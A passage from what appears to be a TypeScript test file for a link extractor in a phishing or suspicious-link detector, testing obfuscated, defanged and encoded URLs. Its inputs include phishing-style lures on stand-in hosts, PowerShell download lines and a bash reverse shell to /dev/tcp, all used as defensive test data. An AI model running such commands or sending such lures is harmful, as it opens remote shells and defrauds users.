import { assert, describe, it } from "@effect/vitest"
import { kindOf, linksIn, showsOtherSite } from "../src/Text.ts"
import { leastCpuMs } from "./fixtures/LeastCpuTime.ts"
import { isNightly } from "./fixtures/Seed.ts"

const urls = (text: string) => linksIn(text).map(({ url }) => url)

describe("links in a plain text", () => {
  it.each<[text: string, ...urls: ReadonlyArray<string>]>([
    [
      "(https://kvista-morlen.example/pay/card), pay: https://kvista-morlen.example/b.",
      "https://kvista-morlen.example/pay/card",
      "https://kvista-morlen.example/b"
    ],
    [
      "<https://a.example/1> \"https://a.example/2\"; 'https://a.example/3'",
      "https://a.example/1",
      "https://a.example/2",
      "https://a.example/3"
    ],
    [
      "See https://a.example/wiki/Foo_(bar) and **https://b.example/x** and https://c.example/x…",
      "https://a.example/wiki/Foo_(bar)",
      "https://b.example/x",
      "https://c.example/x"
    ],
    ["»https://a.example/x« or “https://b.example/y”", "https://a.example/x", "https://b.example/y"],
    [
      "https://a.example/x,https://b.example/y;https://c.example",
      "https://a.example/x",
      "https://b.example/y",
      "https://c.example"
    ],
    [
      "see ,trelba-mund.com ; @www.trelba-mund.com ; .www.trelba-mund.com ; \\trelba-mund.com",
      "trelba-mund.com",
      "www.trelba-mund.com",
      "www.trelba-mund.com",
      "trelba-mund.com"
    ],
    ["¡trelba-mund.com! ¿trelba-mund.com? …a.example/x", "trelba-mund.com", "trelba-mund.com", "a.example/x"],
    [
      "[url]www.trelba-mund.com[/url] [URL]trelba-mund.com/x[/URL] [img]https://a.example/b[/img] [url=https://c.example/]d[/url]",
      "www.trelba-mund.com",
      "trelba-mund.com/x",
      "https://a.example/b",
      "https://c.example/"
    ],
    ["http://www[.]trelba-mund[.]com”", "http://www[.]trelba-mund[.]com"],
    ...["～", "〜", "‥", "″", "※", "།", "׃", "†", "€"].map((mark): [string, ...Array<string>] => [
      `${mark}trelba-mund.com${mark} https://a.example/b${mark}`,
      "trelba-mund.com",
      "https://a.example/b"
    ]),
    ["see www.trelba-\nmund[.]com/x\n", "www.trelba-mund[.]com/x", "mund[.]com/x"],
    ["> see trelba-\r\n> mund.com\n", "trelba-mund.com", "mund.com"],
    [
      "Hosts:\n- a.example\n- b.example\nAlso -\nc.example, a@b-\nd.example",
      "a.example",
      "b.example",
      "c.example",
      "d.example"
    ],
    [
      "LISTEN <http://a.example/.b== #aHR0cHM6Ly90cmVsYmE=> now",
      "http://a.example/.b==#aHR0cHM6Ly90cmVsYmE="
    ],
    [
      "<https://a.example/b> and <c> or a < https://d.example/e #f",
      "https://a.example/b",
      "https://d.example/e"
    ],
    ["<https://a.example/b &c>", "https://a.example/b"],
    ["https://a.example/?share[url]=b [i]c[/i]", "https://a.example/?share[url]=b"],
    ["<https://a.example/?b=1 &c=2 &d>", "https://a.example/?b=1&c=2&d"],
    ["[a](\\\\trelba-mund.com\\b\\c.lnk) or fs.open(d.name)", "trelba-mund.com\\b\\c.lnk"],
    // An unassigned character, and the letter of a font with icons.
    ["see www.harmless\ufff0trelba-mund.com or \ue000a.example/x", "trelba-mund.com", "a.example/x"],
    [
      "search-ms:query=a&crumb=location:\\\\trelba-mund.com\\b and search-ms:query=a&crumb=location:%5C%5Ctrelba-mund.com%5Cb",
      "search-ms:query=a&crumb=location:\\\\trelba-mund.com\\b",
      "search-ms:query=a&crumb=location:%5C%5Ctrelba-mund.com%5Cb"
    ],
    ["search:u=trelba-mund.com/x, Search:site=a.example", "trelba-mund.com/x", "a.example"],
    ["Set search:query=a here, and name=$this.name 50%off.com", ...[]],
    [
      "open trelba-mund[.]com[/]pay ; h**ps://trelba-mund.com/x",
      "trelba-mund[.]com[/]pay",
      "h**ps://trelba-mund.com/x"
    ],
    [
      "hxxps[:]//bad[.]example/x and bad (dot) example/login now",
      "hxxps[:]//bad[.]example/x",
      "bad(dot)example/login"
    ],
    ["kvista-morlen [.] com/pay/card", "kvista-morlen[.]com/pay/card"],
    [
      "- hxxps\\[:\\]//bad\\[.\\]example/x or bad\\[.\\]example, 203\\[.\\]0\\[.\\]113\\[.\\]7",
      "hxxps\\[:\\]//bad\\[.\\]example/x",
      "bad\\[.\\]example",
      "203\\[.\\]0\\[.\\]113\\[.\\]7"
    ],
    ["URL;WORK:https\\://a.example/x", "https\\://a.example/x"],
    ["Pay here(a.example/x), or [here](b.example/y)", "a.example/x", "b.example/y"],
    ["bad[.]example/x and fs.open(file.name)", "bad[.]example/x"],
    ["<script>location.assign('//a.example/x')</script>", "a.example/x"],
    // By `escape`, which leaves slashes.
    [
      "document.write(unescape('%3Ca%20href%3D%22https%3A//a.example/x%22%3E'))",
      "https%3A//a.example/x%22%3E'))",
      "https%3A//a.example/x"
    ],
    ["a.example／x or b．example／y", "a.example／x", "b．example／y"],
    ["ｈｔｔｐｓ：／／ｂａｄ．ｃｏｍ／ｘ 確認", "ｂａｄ．ｃｏｍ／ｘ"],
    ["https：／／a.example／x and bad․example/x", "a.example／x", "bad․example/x"],
    ["Pending.Visit:a.example/x(Reply Y)", "a.example/x"],
    [
      "here(a.example:8443/x) or here(www.b.example) or here(c.com) or ioc(d[.]example)",
      "a.example:8443/x",
      "www.b.example",
      "c.com",
      "d[.]example"
    ],
    [
      "visit bad․example now, or a.example—or b.example–c.example",
      ...["bad․example", "a.example"],
      "b.example",
      "c.example"
    ],
    ["a.example-->b.example", "a.example", "b.example"],
    ["see README.md#usage and setup.py?raw=1"],
    ["‚a.example‘ a.example->b.example --", "a.example", "a.example", "b.example"],
    ["Pay at bad-bank .example/x or (bad-bank. com/y); and. or/not", "bad-bank.example/x", "bad-bank.com/y"],
    ["Pay at login.bad-bank .example/x or bad-bank .co.uk/y", "login.bad-bank.example/x", "bad-bank.co.uk/y"],
    ["We accept .zip/.mov files and sell .com/.net names"],
    ["||a.example^$document,popup or ||b.example/x^$all", "a.example", "b.example/x^$all", "b.example/x"],
    ["Your parcel waits: evri-redelivery.lol", "evri-redelivery.lol"],
    ["Track it at dhl-paket.example/track today", "dhl-paket.example/track"],
    ["-----http://trelba-mund.com----------", "http://trelba-mund.com"],
    ["-----www.trelba-mund.com----------", "www.trelba-mund.com"],
    ["_trelba-mund.com/x_ and —b.example.com—", "trelba-mund.com/x", "b.example.com"],
    ["1)trelba-mund.com and §b.example.com", "trelba-mund.com", "b.example.com"],
    ["〔https://a.example/x〕 and ＜https://b.example/x＞", "https://a.example/x", "https://b.example/x"],
    ["trelba-mund DOT com/x, not the dot com boom", "trelba-mund.com/x"],
    ["We are using dot net since the famous dot com bubble; see trelba-mund dot com/x", "trelba-mund.com/x"],
    ["%20trelba-mund.com/x, $scope.name and %s.example.com"],
    ["trelba-mund[.[com and trelba[-]mund.com", "trelba-mund[.[com", "trelba[-]mund.com"],
    ["trelba-mund（。）com and trelba-mund[点]com", "trelba-mund[.]com", "trelba-mund[点]com"],
    ["next=https%3A%2F%2Ftrelba-mund.com%2Fx&a=b", "https%3A%2F%2Ftrelba-mund.com%2Fx"],
    [
      "&lt;https://a.example/x&gt; and https://b.example/?gt=1&gt=2",
      "https://a.example/x&gt",
      "https://a.example/x",
      "https://b.example/?gt=1&gt=2"
    ],
    ["1.https://trelba-mund.com/x and •https://b.example", "https://trelba-mund.com/x", "https://b.example"],
    ["http://http://trelba-mund.com/x", "http://http://trelba-mund.com/x"],
    ["go to https//trelba-mund.com/x", "https//trelba-mund.com/x"],
    ["[Pay now](https://a.example/pay) <https://b.example>", "https://a.example/pay", "https://b.example"],
    ["Link: https://a.example/login", "https://a.example/login"],
    [
      "call tel:+4912345 or mail a@b.example, open report.pdf, readme.md or setup.zip, e.g. now, i.e. z.B. 3.14 v1.2.3"
    ],
    ["The end.Next sentence begins. Und so weiter...bis dann"],
    ["see readme.md/x and www.readme.md", "readme.md/x", "www.readme.md"],
    ["otpauth://totp/Bank:me?secret=ABC&issuer=Bank upi://pay?pa=a@b WIFI:S:x;P:secret;;"],
    ["mailto:a@b.example?body=https%3A%2F%2Fc.example", "mailto:a@b.example?body=https%3A%2F%2Fc.example"],
    ["ms-word:nft|u|https://a.example/b.docx", "https://a.example/b.docx"],
    ["пример.рф и https://bücher.example/ü", "пример.рф", "https://bücher.example/ü"],
    ["192.0.2.7/login or 192.0.2.8", "192.0.2.7/login", "192.0.2.8"],
    ["😀https://a.example/x👉", "https://a.example/x"],
    ["javascript:alert(1)", "javascript:alert(1)"],
    ["https://a.example/?u=https://b.example/x", "https://a.example/?u=https://b.example/x"],
    ["点击trelba-mund.com登录，谢谢", "trelba-mund.com"],
    ["链接：trelba-mund.com/x 或 https：//b.example/y", "trelba-mund.com/x", "b.example/y"],
    ["Open 𝐭𝐫𝐞𝐥𝐛𝐚-𝐦𝐮𝐧𝐝.𝐜𝐨𝐦/x now", "𝐭𝐫𝐞𝐥𝐛𝐚-𝐦𝐮𝐧𝐝.𝐜𝐨𝐦/x"],
    ["Tel:https://a.example/x Geo:https://b.example/y", "https://a.example/x", "https://b.example/y"],
    ["点击trelba-mund.com/x登录", "点击trelba-mund.com/x登录", "trelba-mund.com/x"],
    [
      "更新してください。a.trelba-mund.com/ap",
      "更新してください。a.trelba-mund.com/ap",
      "a.trelba-mund.com/ap"
    ],
    ["Kunde/in,z.B.im Anhang"],
    ["Pay now→trelba-mund.com/x today", "trelba-mund.com/x"],
    ["a.example,b.example;c.example", "a.example", "b.example", "c.example"],
    ["trelba-mund。com/x and trelba-\u00admund.com", "trelba-mund。com/x", "trelba-\u00admund.com"],
    ["https: //trelba-mund.com/x or https ://b.example", "trelba-mund.com/x", "b.example"],
    ["https://trelba-mund .com/x, b.", "https://trelba-mund.com/x"],
    ["hxxps://trelba-mund dot com/x now", "hxxps://trelba-mund.com/x"],
    ["bad (punkt) example/login or bad[punto]example", "bad(punkt)example/login", "bad[punto]example"],
    ["Open \\\\trelba-mund.com@SSL\\folder\\a.lnk", "trelba-mund.com@SSL\\folder\\a.lnk"],
    ["h__ps://trelba-mund.com/x", "h__ps://trelba-mund.com/x"],
    ["Visit:trelba-mund.com", "trelba-mund.com"],
    ["see https://a.example/x[Form] now", "https://a.example/x[Form]", "https://a.example/x"],
    ["'https://a.example/x'den", "https://a.example/x'den", "https://a.example/x"],
    ["https://a.example's page", "https://a.example's", "https://a.example"],
    [
      "src=https://a.example/x^dst=b.example^",
      "https://a.example/x^dst=b.example",
      "https://a.example/x",
      "b.example"
    ],
    ["https://a.example/x–then", "https://a.example/x–then", "https://a.example/x"],
    ["https://a.example/x에서 확인", "https://a.example/x에서", "https://a.example/x"],
    ["https://a.example에서 확인", "https://a.example에서", "https://a.example"],
    ["https://a.example/x。続き", "https://a.example/x。続き", "https://a.example/x"],
    ["https://a.example?x[0]=1&y[b]=2", "https://a.example?x[0]=1&y[b]=2"],
    ["https://a.example/Schindler's_List", "https://a.example/Schindler's_List"],
    ["지금 trelba-mund.com에서 확인", "trelba-mund.com"],
    ["see trelba-mund.com's page", "trelba-mund.com"],
    ["See TrelbaMund.com or TrelbaMund.Com today", "TrelbaMund.com", "TrelbaMund.Com"],
    ["open ｔｒｅｌｂａ．ｃｏｍ now", "ｔｒｅｌｂａ．ｃｏｍ"],
    ["http[s]://a.example/x or hxxp(s)://b.example", "http[s]://a.example/x", "hxxp(s)://b.example"],
    ["see bad[.com/x and trelba【.】com/x", "bad[.com/x", "trelba[.]com/x"],
    ["Rcv 192.0.2.1 Q [0001 D] A (3)www(6)trelba(3)com(0)", "192.0.2.1", "www.trelba.com"],
    // Markup of wikis, notes and programs behind a link; only the shorter one is a link if browsers do not open the longer one.
    [
      "http://a.example/x{{dead link}} http://b.example{{dead link}} http://c.example/x{color}",
      ...["http://a.example/x{{dead", "http://a.example/x", "http://b.example"],
      ...["http://c.example/x{color}", "http://c.example/x"]
    ],
    [
      "Link:a.example/x[Form] a.example\\nb.example",
      "a.example/x[Form]",
      ...["a.example/x", "a.example\\nb.example", "a.example", "b.example"]
    ],
    ["https://a.example/x路b.html or so", "https://a.example/x路b.html", "https://a.example/x"],
    ["https://a.example{{x}}.b.example/ now", "https://a.example{{x}}.b.example/"],
    [
      "https://a.example[] https://b.example/1[a site] https://c.example/2[x,window=_blank]",
      ...["https://a.example", "https://b.example/1[a", "https://b.example/1"],
      ...["https://c.example/2[x,window=_blank]", "https://c.example/2"]
    ],
    [
      "<http://a.example|b.example> {{url=http://c.example|title}}",
      "http://a.example",
      "b.example",
      "http://c.example"
    ],
    ["hxxps[:]//a[.]example/x|here", "hxxps[:]//a[.]example/x|here", "hxxps[:]//a[.]example/x"],
    ["https\\://a.example/x\\; bye", "https\\://a.example/x\\", "https\\://a.example/x"],
    ["{\\rtf1 https://a.example/x\\par}", "https://a.example/x\\par", "https://a.example/x"],
    ["[url:value = 'https://a.example/x\\')']", "https://a.example/x\\", "https://a.example/x"],
    // Rows of a table without a header.
    ["1,https://a.example/x,phishing", "https://a.example/x,phishing", "https://a.example/x"],
    ["intent://a.example/x#Intent;scheme=https;end or so", "intent://a.example/x#Intent;scheme=https;end"],
    ["https://a.example/x,0 or so", "https://a.example/x,0", "https://a.example/x"],
    [
      "https://a.example,abc@b.example is b.example",
      "https://a.example,abc@b.example",
      "https://a.example",
      "b.example"
    ],
    [
      "https://a.example/x;2026-08-01;1 https://b.example/y,2026,kit",
      ...["https://a.example/x;2026-08-01;1", "https://a.example/x"],
      ...["https://b.example/y,2026,kit", "https://b.example/y"]
    ],
    [
      "https://a.example/x,b.example/y",
      "https://a.example/x,b.example/y",
      "https://a.example/x",
      "b.example/y"
    ],
    ["https://a.example/@52.5,13.4,17z and ?q=1,2", "https://a.example/@52.5,13.4,17z"],
    ["192.0.2.1,a.example,ldap://b.example:389/x", "192.0.2.1", "a.example", "ldap://b.example:389/x"],
    // Spellings of other programs.
    ["h–p://a.example/x or h#ps://b.example", "h–p://a.example/x", "h#ps://b.example"],
    ["address=/a.example/b.example/0.0.0.0 server=/c.example/", "a.example", "b.example", "c.example"],
    ["MECARD:N:Bank;URL:a.example;TEL:1;;", "a.example"],
    ["full address:s:a.example\r\ngatewayhostname:s:b.example\r\n", "a.example", "b.example"],
    // GBK that is read as Windows-1252.
    [
      "\u00c7\u00eb https://a.example/x\u00a3\u00ac\u00d0\u00bb",
      "https://a.example/x\u00a3\u00ac\u00d0",
      "https://a.example/x"
    ],
    ["Pay www.  trelba-mund.  com/  x or at my-bank dot com now", "www.trelba-mund.com/", "my-bank.com"],
    ["see www.trelba..com/x and so on..so", "www.trelba..com/x"],
    ["ⓦⓦⓦ.ⓑⓐⓝⓚ.ⓒⓞⓜ/x", "www.bank.com/x"],
    [
      "the nets 192.0.2.0/24 and 10.0.0.0/8, but 192.0.2.7/24 or 192.0.2.0/99",
      "192.0.2.7/24",
      "192.0.2.0/99"
    ],
    // Brackets that do not match, and odd schemes.
    [
      "see www].[trelba].[com or [www].trelba.com, 192.)0[.2.)1",
      "www.trelba.com",
      "www.trelba.com",
      "192.0.2.1"
    ],
    ["x[0].id, f(a).is and rows[i].name are code"],
    ['list[0].org.name, (root / \'a\').parent.at, log().info, f"{a}.{b}.on.aws", t["a"][match.group("b")]'],
    ["5[,]6[,]7(,)8 or trelba-mund-dot-com, in the post-dot-com years", "5[,]6[,]7(,)8", "trelba-mund.com"],
    ["trelba-mund . com", "trelba-mund.com"],
    ["the 1990s dot com bubble, well-known dot com companies, bath-p:12, {dir}_alias.pl"],
    [
      "(http)://a.example/x https@://b.example/x http :///c.example/x",
      "a.example/x",
      "b.example/x",
      "c.example/x"
    ],
    ["｜www.a.example/x｜b", "www.a.example/x"],
    ["trelba•com/x or trelba-mund·com, but la col·lecció", "trelba.com/x", "trelba-mund.com"],
    ["(see this)www.a.example or [now]b.example/x, f(x).id", "www.a.example", "b.example/x"],
    ["h[tt]ps://a.example/x and bad[ . ]example", "h[tt]ps://a.example/x", "bad[.]example"],
    // The next sentence or a bracket, without a blank between.
    [
      "Pay at trelba.com.Reply Y, https://trelba-mund.example!Then go, www.a.com…See or https://b.example/gov(valid 24h)",
      "trelba.com",
      "https://trelba-mund.example",
      "www.a.com",
      "https://b.example/gov(valid",
      "https://b.example/gov"
    ],
    [
      "java.net.URL at https://a.com.Evil.example/ or https://a.example/b-c.min.Css",
      "https://a.com.Evil.example/",
      "https://a.example/b-c.min.Css"
    ],
    // The next word may be a part of the host, and no class of a program is a sentence.
    [
      "https://trelba.com.Support us, trelba.com.Click",
      "https://trelba.com.Support",
      "https://trelba.com",
      "trelba.com"
    ],
    [
      "https://trelba.com.Login_x.b.example/ https://trelba.com.Pay[.]b[.]example/y https://trelba.com.Shop?x",
      ...[
        "https://trelba.com.Login_x.b.example/",
        "https://trelba.com.Pay[.]b[.]example/y",
        "https://trelba.com.Shop?x"
      ]
    ],
    ["ERROR com.example.shop.OrderService - failed; import org.example.xyz.Main;"],
    // Escaped line breaks between links.
    [
      "https://a.example/x\\nhttps://b.example/y\\r\\n",
      "https://a.example/x",
      "https://b.example/y\\r\\n",
      "https://b.example/y"
    ],
    [
      "https://a.example/x,kit|Form",
      ...["https://a.example/x,kit|Form", "https://a.example/x,kit", "https://a.example/x"]
    ],
    // The source of a page.
    [
      "https://trelba&#46;com/x and https://a.example/?x=1&amp;y=2 or trelba&period;com/y",
      ...["https://trelba.com/x", "https://a.example/?x=1&amp;y=2", "https://a.example/?x=1&y=2"],
      "trelba.com/y"
    ],
    ["https://a.example/?x=1&amp;y=2", "https://a.example/?x=1&amp;y=2"],
    ["&#104;ttps://a.example/x&#61;1", "https://a.example/x=1"],
    // Arabic and Hebrew words without a blank.
    ["اضغط هناtrelba-mund.com/x الآن", "trelba-mund.com/x"],
    ["לחץ כאן-www.trelba-mund.com", "www.trelba-mund.com"],
    ["Put it into /srv/www/a.txt, // see below, and/or ... 1,2,3 x=1;y=2 → end"],
    ["http://intranet. The next one, or http://localhost. It works", "http://intranet", "http://localhost"],
    ["Open http://intranet.\nIt works", "http://intranet"],
    // Programs, and logs with escapes or encoded texts.
    [
      "$u='https://a.example/x';iwr $u; iwr 'https://b.example/y','https://c.example/z' -o d",
      ...["https://a.example/x';iwr", "https://a.example/x", "https://b.example/y", "https://c.example/z"]
    ],
    [
      "get('https://a.example/x?id='+id); f('https://b.example/y'.trim())",
      "https://a.example/x?id='+id",
      "https://a.example/x?id=",
      "https://b.example/y'.trim()",
      "https://b.example/y"
    ],
    [
      'request=https://a.example/?x\\=1 got "https://b.example/?x=1\\u0026y=2" or \\x68ttps\\x3a//c.example/',
      ...["https://a.example/?x=1", "https://a.example/?x\\=1"],
      ...["https://b.example/?x=1\\u0026y=2", "https://b.example/?x=1&y=2", "https://c.example/"]
    ],
    // Escapes of Markdown, TeX and a shell.
    ["**src**: fix node\\_url.cc, see src/node\\_url.cc"],
    ["https://a.example/pay\\_card", "https://a.example/pay\\_card", "https://a.example/pay_card"],
    [
      "see a.example/pay\\_card, curl https://b.example/x\\?id\\=1\\&b; C:\\a.example\\_x \\\\c.example\\_x\\y",
      ...["a.example/pay_card", "https://b.example/x\\?id\\=1\\&b", "https://b.example/x?id=1&b"],
      "c.example\\_x\\y"
    ],
    [
      "GET /send?text=Pay%20https%3A%2F%2Fa.example%2Fx%20now&cb=https%3A%2F%2Fb.example%2Fy 200",
      ...["https%3A%2F%2Fa.example%2Fx%20now", "https%3A%2F%2Fa.example%2Fx", "https%3A%2F%2Fb.example%2Fy"]
    ],
    // Names of a program are no hosts.
    [
      "fetch('https://a.example/u?id='+user.id+'&n='+data.name); $a='https://b.example/x';b.id=3",
      "https://a.example/u?id='+user.id+'&n='+data.name",
      "https://a.example/u?id=",
      "https://b.example/x';b.id=3",
      "https://b.example/x"
    ],
    [
      "hosts 'https://a.example/x',b.example",
      "https://a.example/x',b.example",
      "https://a.example/x",
      "b.example"
    ],
    ["log www.a.example\\u0026b=c", "www.a.example\\u0026b=c"],
    [
      "text=https%3A%2F%2Fa.example%2Fx%0Ahttps%3A%2F%2Fb.example%2Fy",
      "https%3A%2F%2Fa.example%2Fx%0Ahttps%3A%2F%2Fb.example%2Fy",
      "https%3A%2F%2Fa.example%2Fx",
      "https%3A%2F%2Fb.example%2Fy"
    ],
    ["#HttpOnly_.a.example\tTRUE\n#HttpOnly_www.b.example\tTRUE", "a.example", "www.b.example"],
    ...["देखें।HOST", "HOSTपर", "দেখুনHOSTএ", "Սեղմեք՝HOST։", "サポート・HOST", "اضغط،HOST"].map(
      (text): [string, string] => [text.replace("HOST", "a-b.example.com"), "a-b.example.com"]
    ),
    ["https://a.example/bपर", "https://a.example/bपर", "https://a.example/b"],
    ["请见a.example/#!/b!c/谢谢", "请见a.example/#!/b!c/谢谢", "a.example/#!/b!c/"],
    ["Приветa.example https://a.example/bтест", "Приветa.example", "https://a.example/bтест"],
    ["您的包裹a-b。com请 您的包裹a-b点com请 10点到3点cn", "a-b。com", "a-b点com"],
    ["Pay today!a.example.com/x if(!user.name) nick!user@a.example", "a.example.com/x"],
    ["&#104;&#116;&#116;&#112;&#115;&#58;&#47;&#47;a&#46;example&#47;x is it", "https://a.example/x"],
    [
      "www.a.example <http://www.a.example&sp> https://b.example,c&d=e/f",
      "www.a.example",
      "http://www.a.example",
      "https://b.example"
    ],
    ["https://a.example&b.c.example/x", "https://a.example&b.c.example/x"],
    ...["%2e", "%E3%80%82", "。", "\uff0e", "\u2024"].map((dot): [string, string] => {
      const link = `https://a.example&b${dot}c${dot}example/x`
      return [link, link]
    }),
    [
      "see www.chase•com/login, •www.a.example•www.b.example",
      "www.chase.com/login",
      "www.a.example",
      "www.b.example"
    ],
    ["\ufe8d\ufebf\ufed0\ufec2a.example.com 到a-b点com", "a.example.com", "到a-b点com", "a-b点com"],
    ["https://127%252e0%252e0%252e1/x", "https://127%252e0%252e0%252e1/x"],
    ["see a‑b.example/x and https//:a.example now", "a‑b.example/x", "https//:a.example"],
    [
      "see a-b.example¹ and https://a.example/x²",
      "a-b.example",
      "https://a.example/x²",
      "https://a.example/x"
    ],
    [
      "https://a.example/x…more or a.example/y…",
      "https://a.example/x…more",
      "https://a.example/x",
      "a.example/y"
    ],
    [
      "see https://a.example/x\\xa0www.b.example/y",
      "https://a.example/x\\xa0www.b.example/y",
      "https://a.example/x",
      "www.b.example/y"
    ],
    ["see https://a.example/x\\xa0y", "https://a.example/x\\xa0y", "https://a.example/x"],
    ["①a-b.example ②b-c.example/x", "①a-b.example", "a-b.example", "②b-c.example/x", "b-c.example/x"],
    ["now a-b.com(fake) and f(x).id", "a-b.com"],
    ...["(fake)", "%20", "%22", "%22%3E", "%3C/a%3E", "%22%3E%3C/a%3E", "%20%3Cbr", "%E3%80%82"].map(
      (end): [string, string, string] => [
        `See https://a.example/x${end} now`,
        `https://a.example/x${end}`,
        "https://a.example/x"
      ]
    ),
    [
      "see https://a.example/?q=%22b%22 and https://b.example/a%20b",
      "https://a.example/?q=%22b%22",
      "https://b.example/a%20b"
    ],
    ["bash -i >& /dev/tcp/a-b.example/443 0>&1, not /dev/tcp/$HOST/80", "a-b.example"],
    ["/dev/tcp/$x=a-b.example is unusual", "a-b.example"],
    ["(^|\\.)a-b\\.example$ (\\.|^)b-c\\.example$ 1.5.3.4$", "a-b\\.example", "b-c\\.example"],
    ["bad(닷)example.com or bad [점] com/x", "bad(닷)example.com", "bad[점]com/x"],
    [
      "bad-a점com 또는 bad-a닷com/x bad[·]example bad(•)example",
      "bad-a점com",
      "bad-a닷com/x",
      "bad[·]example",
      "bad(•)example"
    ],
    [
      "see ldap[:]//bad[.]example/a or wss[:]//bad[.]example/b",
      "ldap[:]//bad[.]example/a",
      "wss[:]//bad[.]example/b"
    ],
    ["url=hxxps%3A//bad%2Eexample/x", "hxxps%3A//bad%2Eexample/x"],
    [
      "SMSTO:1234:bad.example/x sms:1?body=pay%20bad.example",
      "SMSTO:1234:bad.example/x",
      "sms:1?body=pay%20bad.example"
    ],
    ["mailto:a@b.example?subject=x smsto:1234 sms:1?body=1.5", ...[]],
    ["now…a-b.example…ok *a-c.example*ok 5€a-d.example", "a-b.example", "a-c.example", "a-d.example"],
    ...["✅", "→", "€", "※", "•", "·"].map((mark): [string, string, string] => [
      `see https://a.example${mark}now`,
      `https://a.example${mark}now`,
      "https://a.example"
    ]),
    ["Files: lib/uuid/*.3.in$ and String.prototype.to*Case()", ...[]],
    ["https://i❤.example/x", "https://i❤.example/x"],
    [
      "https://m&uuml;nchen.example and Stra&szlig;e.example",
      "https://m\u00fcnchen.example",
      "Stra\u00dfe.example"
    ],
    ["see a-b.example&mdash;ok and a-c&zwnj;.example", "a-b.example", "a-c\u200b.example"],
    [
      "Pay: trelba-mund.com/login?next=https://a.example/x now",
      "trelba-mund.com/login?next=https://a.example/x",
      "https://a.example/x"
    ],
    ["(https://a.example/x),(trelba-mund.com/b)", "https://a.example/x", "trelba-mund.com/b"],
    ["(see https://a.example/x)trelba-mund.com", "https://a.example/x", "trelba-mund.com"],
    [
      "{noformat}trelba-mund[.]com{noformat} {color:red}a-b.example{color} |{empty}203.0.113[.]7",
      ...["trelba-mund[.]com", "a-b.example", "203.0.113[.]7"]
    ],
    [
      "\u8bf7\u8bbf\u95eetrelba-mund[.]com/pay\u3002",
      ...["\u8bf7\u8bbf\u95eetrelba-mund[.]com/pay", "trelba-mund[.]com/pay"]
    ],
    [
      "hxxps[:]//trelba-mund[.]com/pay,hxxps[:]//a[.]example/x",
      ...["hxxps[:]//trelba-mund[.]com/pay", "hxxps[:]//a[.]example/x"]
    ],
    [
      "203.0.113.7/pay,203.0.113.8/x",
      ...["203.0.113.7/pay,203.0.113.8/x", "203.0.113.7/pay", "203.0.113.8/x"]
    ],
    [
      String.raw`Hello\ntrelba-mund.com/x\nBye and C:\new.com\x`,
      String.raw`trelba-mund.com/x\nBye`,
      "trelba-mund.com/x"
    ],
    ["1,https://trelba-mund.com/pay,2", "https://trelba-mund.com/pay,2", "https://trelba-mund.com/pay"],
    ["{'u':'trelba-mund.example'} [x](a-b.example) f(a.name)", "trelba-mund.example", "a-b.example"],
    [
      "my-link:trelba-mund.com/x?next=https://a.example/x",
      ...["trelba-mund.com/x?next", "https://a.example/x"]
    ],
    ["[site](https://a.example)[mail](mailto:someone@b.example)", "https://a.example"],
    [
      "VALUES (1,'https://a.example/x',NULL),(2,'trelba-mund.com',NULL);",
      "https://a.example/x',NULL",
      "https://a.example/x",
      "trelba-mund.com"
    ],
    ["\u767b\u5f55trelba-mund.com\u6216https://a.example/x", "trelba-mund.com", "https://a.example/x"],
    [
      "document.link='https://a.example/x' [b.example](https://a.example/y)",
      "https://a.example/x",
      "https://a.example/y"
    ],
    [
      String.raw`^https?://(www\.)?trelba-mund\.com and ^(.+\.)?a-b\.com$`,
      String.raw`trelba-mund\.com`,
      String.raw`a-b\.com`
    ],
    [String.raw`"~*(?:\b)trelba\-mund\.com(?:\b)" 1;`, String.raw`trelba\-mund\.com`],
    ['content:"|0b|trelba-mund|03|com|00|"; nocase;', "trelba-mund.com"],
    ["see http:// trelba-mund .com /path now", "http://trelba-mund.com/path"],
    ["see hxxp__ trelba-mund( .com[/]path now", "hxxp__trelba-mund.com[/]path"],
    [
      "see hxxp://trelba-mund.]com/x or https://a.example /b",
      "hxxp://trelba-mund.com/x",
      "https://a.example"
    ],
    ["use http:// or https:// instead. it", ...[]],
    ["u=http%3A%2F%2Ftrelba-mund%2Ecom%2Fx", "http%3A%2F%2Ftrelba-mund%2Ecom%2Fx"],
    ["use https%3A%2F%2F instead", ...[]],
    [
      "https://a.example/x,b\u3068a-b.example/y",
      ...["https://a.example/x,b\u3068a-b.example/y", "https://a.example/x,b", "https://a.example/x"],
      "a-b.example/y"
    ],
    [
      "see https://trelba-mund.com .Click or https:// a-b.com .b.example",
      "https://trelba-mund.com",
      "a-b.com",
      "b.example"
    ],
    ["see hxxp__trelba-mund.com( .b.example/x", "hxxp__trelba-mund.com", "b.example/x"],
    ["see hxxps://trelba-mund[.com .b.example/x", "hxxps://trelba-mund[.com", "b.example/x"],
    ["see https://trelba-mund.com[.b.example/x", "https://trelba-mund.com", "b.example/x"],
    [
      String.raw`see trelba-mund.com/x(1)bank\.com and ^([a-z0-9-]+\.)?a-b\.com$`,
      ...[String.raw`trelba-mund.com/x(1)bank\.com`, String.raw`a-b\.com`]
    ],
    [
      "see [bank.com](trelba-mund.com), (bank.com/x)(a-b.example/y) and (bank.com)elba.example/x",
      ...["bank.com", "trelba-mund.com", "bank.com/x", "a-b.example/y", "bank.com", "elba.example/x"]
    ],
    [
      "see https://trelba-mund.com/x|04|bank|03|com|00| now",
      ...["https://trelba-mund.com/x|04|bank|03|com|00", "https://trelba-mund.com/x"]
    ],
    [
      "{quote:https://trelba-mund.com} {code:title=a|b}a-b.example{code}",
      "https://trelba-mund.com",
      "a-b.example"
    ],
    ["see http:// www.trelba-mund.com /path", "http://www.trelba-mund.com/path"],
    ["trelba-mund.com&nbsp;hxxps[:]//a[.]example/x", "trelba-mund.com", "hxxps[:]//a[.]example/x"],
    [
      "see https://a.example)[b](c@trelba-mund.com and https://a.example)[b](mailto:c@trelba-mund.com/)",
      ...["https://a.example", "https://a.example)[b](c@trelba-mund.com"],
      ...["https://a.example", "https://a.example)[b](mailto:c@trelba-mund.com/"]
    ],
    ["[one](README.zh-CN.md) [two](trelba-mund.com)", "trelba-mund.com"],
    [
      String.raw`Hello\r\ntrelba-mund.com/x and ..\nelba.example/x`,
      ...["trelba-mund.com/x", "nelba.example/x"]
    ],
    [String.raw`\\files\trelba-mund.com\x.txt and a\this.network.name`, ...[]],
    ["", ...[]]
  ])("%o", (text, ...expected) => assert.deepStrictEqual(urls(text), expected))
})

describe("a link that goes on after a line break", () => {
  const long = "Please open this link and confirm your account within a day:"

  it.each<[text: string, ...urls: ReadonlyArray<string>]>([
